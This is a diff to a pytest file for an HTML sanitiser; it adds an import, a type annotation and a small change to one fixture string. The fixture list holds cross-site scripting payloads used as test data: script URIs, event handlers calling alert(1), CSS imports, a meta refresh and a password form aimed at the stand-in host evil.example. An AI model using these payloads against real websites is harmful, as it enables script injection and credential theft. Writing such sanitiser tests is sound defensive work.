@@ -5,7 +5,7 @@ from pathlib import Path
 import pytest
 
 from chalicelib.extraction.display import make, render, sanitize
-from chalicelib.extraction.display.model import CloseTag, OpenTag, ShownFormula, TextRun, UnreadText
+from chalicelib.extraction.display.model import CloseTag, Event, OpenTag, ShownFormula, TextRun, UnreadText
 from chalicelib.extraction.model import BlockKind, BlockSpan, ChapterSpan, ExtractedText
 from tests.support.display_forms import Shown, forbidden, show
 from tests.support.growth import Meter
@@ -40,7 +40,7 @@ HOSTILE = (
     "<a href='data:text/html;base64,PHNjcmlwdD4='>go</a><a href='vbscript:x'>go</a><a href='//evil.example' ping='//evil'>go</a>",
     "<a href='https://evil.example/' target='_blank' onmouseover='alert(1)' style='position:fixed;inset:0'>go</a>",
     "<p style='background:url(//evil.example/x)' class='fixed' id='root' onclick='x()' data-start='0'>x</p>",
-    "<style>@import '//evil.example/x.css'; p { background: url(//evil.example) }</style><link rel=stylesheet href=//evil.example>",
+    "<style>@import '//evil.example/x.css'; p { background: url(//evil.example) }</style><link rel=stylesheet href=//evil>",
     "<base href='//evil.example/'><meta http-equiv=refresh content='0;url=//evil.example'>",
     "<form action='//evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
     "<details open ontoggle=alert(1)><summary>x</summary>y</details><marquee onstart=alert(1)>z</marquee>",
@@ -81,7 +81,7 @@ def test_the_sanitiser_alone_leaves_nothing_of_it(markup: str) -> None:
 
 def test_a_hostile_structure_is_escaped_and_sanitised() -> None:
     attack = '"><img src=x onerror=alert(1)>'
-    events = [
+    events: list[Event] = [
         OpenTag("a", {"href": f"javascript:{attack}", "onclick": "x()", "data-note": attack}),
         TextRun(0, 3),
         CloseTag("a"),
